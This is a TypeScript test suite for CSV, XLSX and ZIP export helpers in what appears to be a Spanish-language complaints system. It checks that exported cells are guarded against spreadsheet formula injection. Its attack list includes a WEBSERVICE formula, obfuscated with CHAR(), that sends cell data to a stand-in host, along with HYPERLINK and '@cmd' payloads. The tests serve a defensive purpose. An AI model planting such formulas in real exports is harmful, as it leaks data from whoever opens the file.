import { describe, it, expect } from 'vitest';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { neutraliseFormula, toCsv, UTF8_BOM } from '#shared/export/csv';
import { columnLetters, sanitizeSheetName, toXlsx, xmlEscape } from '#shared/export/xlsx';
import { crc32, zip } from '#shared/export/zip';

// ---------------------------------------------------------------------------
// Independent helpers: a bitwise CRC-32 (no table) and a ZIP reader driven by the central directory.

function crcBitwise(data: Uint8Array): number {
  let c = 0xffffffff;
  for (const byte of data) {
    c ^= byte;
    for (let k = 0; k < 8; k++) c = c & 1 ? (c >>> 1) ^ 0xedb88320 : c >>> 1;
  }
  return (c ^ 0xffffffff) >>> 0;
}

type ReadEntry = { name: string; crc: number; data: Uint8Array; flags: number; method: number };

function readZip(buf: Uint8Array): ReadEntry[] {
  const v = new DataView(buf.buffer, buf.byteOffset, buf.byteLength);
  const eocd = buf.length - 22; // no archive comment
  expect(v.getUint32(eocd, true)).toBe(0x06054b50);
  const count = v.getUint16(eocd + 10, true);
  expect(v.getUint16(eocd + 8, true)).toBe(count);
  const cdSize = v.getUint32(eocd + 12, true);
  const cdOffset = v.getUint32(eocd + 16, true);
  expect(cdOffset + cdSize).toBe(eocd);
  const dec = new TextDecoder('utf-8', { fatal: true });
  const entries: ReadEntry[] = [];
  let p = cdOffset;
  for (let i = 0; i < count; i++) {
    expect(v.getUint32(p, true)).toBe(0x02014b50);
    const flags = v.getUint16(p + 8, true);
    const method = v.getUint16(p + 10, true);
    const crc = v.getUint32(p + 16, true);
    const csize = v.getUint32(p + 20, true);
    const usize = v.getUint32(p + 24, true);
    const nlen = v.getUint16(p + 28, true);
    const xlen = v.getUint16(p + 30, true);
    const clen = v.getUint16(p + 32, true);
    const local = v.getUint32(p + 42, true);
    const name = dec.decode(buf.subarray(p + 46, p + 46 + nlen));
    expect(csize).toBe(usize);
    // The local header must agree with the central directory.
    expect(v.getUint32(local, true)).toBe(0x04034b50);
    expect(v.getUint32(local + 14, true)).toBe(crc);
    expect(v.getUint32(local + 18, true)).toBe(csize);
    const lnlen = v.getUint16(local + 26, true);
    const lxlen = v.getUint16(local + 28, true);
    expect(dec.decode(buf.subarray(local + 30, local + 30 + lnlen))).toBe(name);
    const start = local + 30 + lnlen + lxlen;
    entries.push({ name, crc, flags, method, data: buf.subarray(start, start + csize) });
    p += 46 + nlen + xlen + clen;
  }
  expect(p).toBe(eocd);
  return entries;
}

function parts(xlsx: Uint8Array): Map<string, string> {
  const dec = new TextDecoder('utf-8', { fatal: true });
  return new Map(readZip(xlsx).map((e) => [e.name, dec.decode(e.data)]));
}

// A minimal RFC 4180 parser with `;` as the separator, to read back what toCsv writes.
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') { field += '"'; i += 2; continue; }
      if (ch === '"') { quoted = false; i++; continue; }
      field += ch; i++; continue;
    }
    if (ch === '"') { quoted = true; i++; continue; }
    if (ch === ';') { row.push(field); field = ''; i++; continue; }
    if (ch === '\r' && text[i + 1] === '\n') { row.push(field); rows.push(row); row = []; field = ''; i += 2; continue; }
    field += ch; i++;
  }
  expect(field).toBe('');
  expect(row).toEqual([]);
  return rows;
}

const python = ['python3', '/usr/bin/python3'].find(
  (exe) => spawnSync(exe, ['-c', 'import zipfile, xml.dom.minidom, csv'], { encoding: 'utf8' }).status === 0,
);

// ---------------------------------------------------------------------------

describe('toCsv', () => {
  it('starts with a UTF-8 BOM, separates with ; and ends every record with CRLF', () => {
    const csv = toCsv(['Número', 'Tipo'], [['95200-2026-000001', 'Petición'], ['P-AB12-0001', 'Queja, reclamo']]);
    expect(csv.startsWith(UTF8_BOM)).toBe(true);
    expect(csv).toBe('\uFEFFNúmero;Tipo\r\n95200-2026-000001;Petición\r\nP-AB12-0001;Queja, reclamo\r\n');
    expect(new TextEncoder().encode(csv).subarray(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
  });

  it('quotes fields with ;, quote, CR or LF and doubles inner quotes', () => {
    const csv = toCsv(['a'], [['x;y'], ['di "hola"'], ['línea 1\nlínea 2'], ['cr\rx'], ['plain'], ['coma, sin comillas']]);
    expect(csv.split('\r\n').slice(1, 3)).toEqual(['"x;y"', '"di ""hola"""']);
    expect(csv).toContain('"línea 1\nlínea 2"\r\n');
    expect(csv).toContain('"cr\rx"\r\n');
    expect(csv).toContain('\r\nplain\r\n');
    expect(csv).toContain('\r\ncoma, sin comillas\r\n');
  });

  it('writes null and non-finite numbers as empty fields, booleans as TRUE/FALSE, numbers with a decimal comma', () => {
    const csv = toCsv(['n', 'b', 'z', 'x'], [[-5, true, null, Number.NaN], [12.5, false, 0, Infinity]]);
    expect(csv.split('\r\n').slice(1)).toEqual(['-5;TRUE;;', '12,5;FALSE;0;', '']);
  });

  it('neutralises formula injection in text cells, headers included', () => {
    for (const bad of ['=SUM(A1:A2)', '+57 300', '-2+3', '@cmd', '\tx', '\rx']) {
      expect(neutraliseFormula(bad)).toBe(`'${bad}`);
    }
    expect(neutraliseFormula('Queja')).toBe('Queja');
    expect(neutraliseFormula('')).toBe('');
    expect(neutraliseFormula("'ya")).toBe("'ya");
    const csv = toCsv(['=cabecera'], [['=HYPERLINK("http://x","y")'], ['-5'], [-5], ['a=b']]);
    const lines = csv.slice(1).split('\r\n');
    expect(lines[0]).toBe("'=cabecera");
    expect(lines[1]).toBe('"\'=HYPERLINK(""http://x"",""y"")"');
    expect(lines[2]).toBe("'-5");
    expect(lines[3]).toBe('-5');
    expect(lines[4]).toBe('a=b');
  });

  // The attack review's cells: under a comma-only guard, Excel es-CO split them on ; and ran the rest.
  const ATTACKS = [
    'Ana;=WEBSERVICE(CHAR(104)&CHAR(116)&"tp://x.example/?"&E5)',
    'Cra 2;-2+3;@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
  ];

  it('keeps every attack cell one text cell that no spreadsheet reads as a formula', () => {
    const csv = toCsv(['Campo', 'Valor', 'Número'], ATTACKS.map((a, i) => [`c${i}`, a, -2]));
    const parsed = parseCsv(csv.slice(1));
    expect(parsed[0]).toEqual(['Campo', 'Valor', 'Número']);
    const guarded = (a: string) => (/^[=+\-@\t\r]/.test(a) ? `'${a}` : a).replace(/([,;])(?=[=+\-@\t\r])/g, "$1'");
    expect(parsed.slice(1)).toEqual(ATTACKS.map((a, i) => [`c${i}`, guarded(a), '-2']));
    expect(parsed[1]![1]).toBe('Ana;\'=WEBSERVICE(CHAR(104)&CHAR(116)&"tp://x.example/?"&E5)');
    expect(parsed[2]![1]).toBe("Cra 2;'-2+3;'@SUM(A1:A9)");
    // A reader that splits on ; or , while ignoring quotes (Excel with another locale's separator
    // starts a cell after every one of them) still meets no cell that starts a formula.
    for (const sep of [';', ',']) {
      for (const record of csv.slice(1).split(/\r\n/)) {
        for (const f of record.split(sep)) {
          const cell = f.replace(/^"/, '');
          if (!/^-\d+$/.test(cell)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
        }
      }
    }
    expect(toCsv(['a'], [['x,=1+1'], ['y,-2'], ['10,5'], ['uno; dos'], ['Ana,@SUM(A1)']]).split('\r\n').slice(1, 6)).toEqual([
      "x,'=1+1",
      "y,'-2",
      '10,5',
      '"uno; dos"',
      "Ana,'@SUM(A1)",
    ]);
  });

  it('reads back in Python\'s csv module with ; into the right columns', () => {
    if (!python) throw new Error('python3 is needed (see .ci/run)');
    const rows = [['c0', ATTACKS[0]!, 7.5], ['c1', ATTACKS[1]!, null], ['c2', 'línea 1\r\nlínea 2', true]];
    const script = [
      'import sys, csv, io, json',
      'data = sys.stdin.buffer.read().decode("utf-8-sig")',
      'print(json.dumps(list(csv.reader(io.StringIO(data, newline=""), delimiter=";")), ensure_ascii=False))',
    ].join('\n');
    const r = spawnSync(python, ['-c', script], { input: Buffer.from(toCsv(['a', 'b', 'c'], rows), 'utf8'), encoding: 'utf8' });
    expect(r.status, r.stderr).toBe(0);
    expect(JSON.parse(r.stdout)).toEqual([
      ['a', 'b', 'c'],
      ['c0', "Ana;'=WEBSERVICE(CHAR(104)&CHAR(116)&\"tp://x.example/?\"&E5)", '7,5'],
      ['c1', "Cra 2;'-2+3;'@SUM(A1:A9)", ''],
      ['c2', 'línea 1\r\nlínea 2', 'TRUE'],
    ]);
  });

  it('round-trips through an RFC 4180 parser', () => {
    const rows = [['Ñandú; "ave"', 'a\r\nb', ''], ['ok', 'x"', 'ü, ä']];
    const parsed = parseCsv(toCsv(['h1', 'h2', 'h3'], rows).slice(1));
    expect(parsed).toEqual([['h1', 'h2', 'h3'], ...rows]);
  });
});

describe('zip', () => {
  it('computes the standard CRC-32 check value', () => {
    const enc = new TextEncoder();
    expect(crc32(enc.encode('123456789'))).toBe(0xcbf43926);
    expect(crc32(new Uint8Array())).toBe(0);
    const random = new Uint8Array(5000).map((_, i) => (i * 7919 + 13) & 0xff);
    expect(crc32(random)).toBe(crcBitwise(random));
  });

  it('writes stored entries with UTF-8 names that a reader can walk from the central directory', () => {
    const enc = new TextEncoder();
    const files = [
      { name: 'a.txt', data: enc.encode('hola') },
      { name: 'carpeta/año.xml', data: enc.encode('<x>ñ</x>') },
      { name: 'empty', data: new Uint8Array() },
    ];
    const out = zip(files);
    const read = readZip(out);
    expect(read.map((e) => e.name)).toEqual(files.map((f) => f.name));
    for (const [i, e] of read.entries()) {
      expect(e.method).toBe(0);
      expect(e.flags & 0x800).toBe(0x800);
      expect(e.data).toEqual(files[i]!.data);
      expect(e.crc).toBe(crcBitwise(files[i]!.data));
    }
    expect(zip(files)).toEqual(out); // deterministic
  });

  it('refuses duplicate or unsafe names', () => {
    const d = new Uint8Array([1]);
    expect(() => zip([{ name: 'a', data: d }, { name: 'a', data: d }])).toThrow(/Duplicate/);
    expect(() => zip([{ name: '../x', data: d }])).toThrow(RangeError);
    expect(() => zip([{ name: '/x', data: d }])).toThrow(RangeError);
    expect(() => zip([{ name: '', data: d }])).toThrow(RangeError);
  });
});

describe('toXlsx', () => {
  const sheets = [
    {
      name: 'Resumen',
      headers: ['Indicador', 'Valor'],
      rows: [
        ['Solicitudes recibidas', 12],
        ['Tiempo promedio', 9.7],
        ['Texto <peligroso> & "citado"', null],
        ['Sí', true],
      ],
    },
    {
      name: 'Por tipo/canal: [v1]*?',
      headers: ['Tipo', 'N'],
      rows: [['Petición', 3], ['=1+1', -2], ['Ana;=WEBSERVICE("http://x")', 0], ['Cra 2;-2+3;@SUM(A1:A9)', 1], ['@SUM(A1:A9)', 2], ['\t=1', 3], ['\r=1', 4], ['+57', 5], ['\u0001=1', 6]],
    },
    { name: 'Una hoja con un nombre larguísimo que no cabe', headers: ['x'], rows: [] },
    { name: 'resumen', headers: [], rows: [] },
  ];
  const xlsx = toXlsx(sheets);
  const p = parts(xlsx);

  it('contains every part of a minimal workbook, with correct CRCs', () => {
    expect([...p.keys()].sort()).toEqual([
      '[Content_Types].xml',
      '_rels/.rels',
      'xl/_rels/workbook.xml.rels',
      'xl/styles.xml',
      'xl/workbook.xml',
      'xl/worksheets/sheet1.xml',
      'xl/worksheets/sheet2.xml',
      'xl/worksheets/sheet3.xml',
      'xl/worksheets/sheet4.xml',
    ]);
    for (const e of readZip(xlsx)) expect(e.crc).toBe(crcBitwise(e.data));
    expect(readZip(xlsx)[0]!.name).toBe('[Content_Types].xml');
    for (const xml of p.values()) expect(xml.startsWith('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>')).toBe(true);
  });

  it('declares the content types and relationships of every sheet', () => {
    const ct = p.get('[Content_Types].xml')!;
    for (let i = 1; i <= 4; i++) expect(ct).toContain(`PartName="/xl/worksheets/sheet${i}.xml"`);
    expect(ct).toContain('PartName="/xl/styles.xml"');
    expect(p.get('_rels/.rels')).toContain('Target="xl/workbook.xml"');
    const rels = p.get('xl/_rels/workbook.xml.rels')!;
    expect(rels).toContain('Id="rId4" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet4.xml"');
    expect(rels).toContain('Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles"');
  });

  it('sanitises and de-duplicates sheet names', () => {
    const wb = p.get('xl/workbook.xml')!;
    const names = [...wb.matchAll(/<sheet name="([^"]*)"/g)].map((m) => m[1]);
    expect(names).toEqual(['Resumen', 'Por tipo canal v1', 'Una hoja con un nombre larguísi', 'resumen (2)']);
    expect(sanitizeSheetName('a'.repeat(40))).toHaveLength(31);
    expect(sanitizeSheetName("'x'")).toBe('x');
    expect(sanitizeSheetName('[]')).toBe('Hoja');
    expect(sanitizeSheetName('History')).toBe('History 1');
    expect(sanitizeSheetName('😀'.repeat(20)).length).toBeLessThanOrEqual(31);
    expect(sanitizeSheetName('😀'.repeat(20))).toBe('😀'.repeat(15));
  });

  it('writes text as escaped inline strings, numbers and booleans as values, a bold header', () => {
    const s1 = p.get('xl/worksheets/sheet1.xml')!;
    expect(s1).toContain('<c r="A1" s="1" t="inlineStr"><is><t xml:space="preserve">Indicador</t></is></c>');
    expect(s1).toContain('<c r="B2"><v>12</v></c>');
    expect(s1).toContain('<c r="B3"><v>9.7</v></c>');
    expect(s1).toContain('<t xml:space="preserve">Texto &lt;peligroso&gt; &amp; &quot;citado&quot;</t>');
    expect(s1).not.toContain('r="B4"'); // null → no cell
    expect(s1).toContain('<c r="B5" t="b"><v>1</v></c>');
    expect(s1).toContain('state="frozen"');
    const s2 = p.get('xl/worksheets/sheet2.xml')!;
    expect(s2).toContain('<t xml:space="preserve">Petición</t>');
    // Text: a string, never a <f> formula, and guarded like the CSV for whoever edits the cell.
    expect(s2).toContain('<t xml:space="preserve">\'=1+1</t>');
    expect(s2).not.toContain('<f>');
    expect(s2).toContain('<c r="B3"><v>-2</v></c>'); // a number stays a number
    expect(s2).toContain('<t xml:space="preserve">Ana;=WEBSERVICE(&quot;http://x&quot;)</t>');
    expect(s2).toContain('<t xml:space="preserve">Cra 2;-2+3;@SUM(A1:A9)</t>');
    expect(s2).toContain('<t xml:space="preserve">\'@SUM(A1:A9)</t>');
    expect(s2).toContain('<t xml:space="preserve">\'\t=1</t>');
    expect(s2).toContain('<t xml:space="preserve">\'&#13;=1</t>');
    expect(s2).toContain('<t xml:space="preserve">\'+57</t>');
    expect(s2).toContain('<t xml:space="preserve">\'=1</t>'); // a dropped control character does not hide the =
    const styles = p.get('xl/styles.xml')!;
    expect(styles).toMatch(/<cellXfs count="2">.*fontId="1".*<\/cellXfs>/);
    expect(styles).toContain('<font><b/>');
  });

  it('escapes XML and drops characters XML 1.0 cannot hold', () => {
    expect(xmlEscape('a<b>&"c"')).toBe('a&lt;b&gt;&amp;&quot;c&quot;');
    expect(xmlEscape('x\u0000y\u0007z\tñ\n')).toBe('xyz\tñ\n');
    expect(xmlEscape('ok😀\uD800bad')).toBe('ok😀bad');
    expect(columnLetters(0)).toBe('A');
    expect(columnLetters(25)).toBe('Z');
    expect(columnLetters(26)).toBe('AA');
    expect(columnLetters(701)).toBe('ZZ');
    expect(columnLetters(702)).toBe('AAA');
    expect(() => toXlsx([])).toThrow(RangeError);
  });

  // Real readers: Python's zipfile (CRCs) and XML parser (well-formedness), and openpyxl (a
  // spreadsheet library). `.ci/run` installs python3-openpyxl, so these run rather than skip.
  const openpyxlPython = ['python3', '/usr/bin/python3'].find(
    (exe) => spawnSync(exe, ['-c', 'import openpyxl'], { encoding: 'utf8' }).status === 0,
  );

  /** Runs a Python script (its lines) on the workbook written to a temporary file; `exe` the interpreter found, `needs` what to say when there is none. */
  function readWith(exe: string | undefined, needs: string, lines: string[]) {
    if (!exe) throw new Error(`${needs} (see .ci/run)`);
    const dir = mkdtempSync(join(tmpdir(), 'gel-xlsx-'));
    try {
      const file = join(dir, 'informe.xlsx');
      writeFileSync(file, xlsx);
      return spawnSync(exe, ['-c', lines.join('\n'), file], { encoding: 'utf8' });
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  }

  it('passes Python zipfile CRC checks and every part is well-formed XML', () => {
    const r = readWith(python, 'python3 with zipfile is needed', [
      'import sys, zipfile, xml.dom.minidom',
      'z = zipfile.ZipFile(sys.argv[1])',
      'assert z.testzip() is None, z.testzip()',
      'for n in z.namelist(): xml.dom.minidom.parseString(z.read(n))',
      'print(len(z.namelist()))',
    ]);
    expect(r.stderr).toBe('');
    expect(r.stdout.trim()).toBe('9');
  });

  it('opens in openpyxl with the same values', () => {
    const r = readWith(openpyxlPython, 'python3-openpyxl is needed', [
      'import sys, json, openpyxl',
      'wb = openpyxl.load_workbook(sys.argv[1])',
      'out = {ws.title: [list(r) for r in ws.iter_rows(values_only=True)] for ws in wb.worksheets}',
      'out["_bold"] = wb.worksheets[0]["A1"].font.b',
      'print(json.dumps(out, ensure_ascii=False))',
    ]);
    expect(r.status, r.stderr).toBe(0);
    const got = JSON.parse(r.stdout) as Record<string, unknown>;
    expect(Object.keys(got)).toEqual(['Resumen', 'Por tipo canal v1', 'Una hoja con un nombre larguísi', 'resumen (2)', '_bold']);
    expect(got['Resumen']).toEqual([['Indicador', 'Valor'], ...sheets[0]!.rows]);
    expect(got['Por tipo canal v1']).toEqual([
      ['Tipo', 'N'],
      ['Petición', 3],
      ["'=1+1", -2],
      ['Ana;=WEBSERVICE("http://x")', 0],
      ['Cra 2;-2+3;@SUM(A1:A9)', 1],
      ["'@SUM(A1:A9)", 2],
      ["'\t=1", 3],
      ["'\r=1", 4],
      ["'+57", 5],
      ["'=1", 6],
    ]);
    // openpyxl reads a cell as a formula when its value starts with "=": none of the text cells does.
    for (const [cell] of (got['Por tipo canal v1'] as unknown[][]).slice(1)) expect(String(cell)).not.toMatch(/^[=+\-@\t\r]/);
    expect(got['_bold']).toBe(true);
  });
});
